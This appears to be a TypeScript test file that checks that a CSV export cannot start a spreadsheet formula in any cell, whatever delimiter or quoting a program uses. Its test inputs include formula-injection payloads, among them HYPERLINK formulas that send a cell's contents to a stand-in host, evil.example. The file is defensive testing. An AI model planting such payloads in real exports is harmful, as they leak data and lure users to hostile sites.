import { parse } from 'csv-parse/sync';
import { csvHeader, csvRow } from '../../../src/operator/cli/csv.ts';
import { changeOf } from '../../support/builders/fixtures.ts';

/** A change in which somebody's words stand wherever they can. */
const exported = (words: string): string => csvHeader() + csvRow(changeOf(words));

/** How programs read such a file: the list separator is the country's, and some do not know quotes. */
const dialects = [',', ';', '\t', ' ', '|'].flatMap((delimiter) =>
  ['"', null].map((quote) => ({ delimiter, quote, relax_column_count: true, relax_quotes: true })),
);
const cellsOf = (text: string): string[] => dialects.flatMap((dialect) => parse(text, dialect).flat());
const runs = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('the export for spreadsheets', () => {
  it('reads back as as many cells in every row as names in the first', () => {
    const [names = [], cells = []] = parse(exported('no comma, "quotes"; and\nlines')) as string[][];
    expect(cells).toHaveLength(names.length);
    expect(cells[names.indexOf('reason')]).toBe('no comma, "quotes"; and\nlines');
  });

  it.each([
    '=1+1',
    '+1',
    '\t=1',
    '\r=1',
    '＝1',
    ' =1',
    'ok;=HYPERLINK("https://evil.example?"&A1,"open")',
    'ok\t=1+1',
    'ok\n=1+1',
    'ok\r\n-1+1',
    'ok"\n=1+1',
    '";=1+1',
    'ok|+1',
    'ok =HYPERLINK("https://evil.example")',
  ])('starts no formula with %j, whatever parts the cells', (words) => {
    expect(cellsOf(exported(words)).filter((cell) => runs.test(cell))).toEqual([]);
  });
});
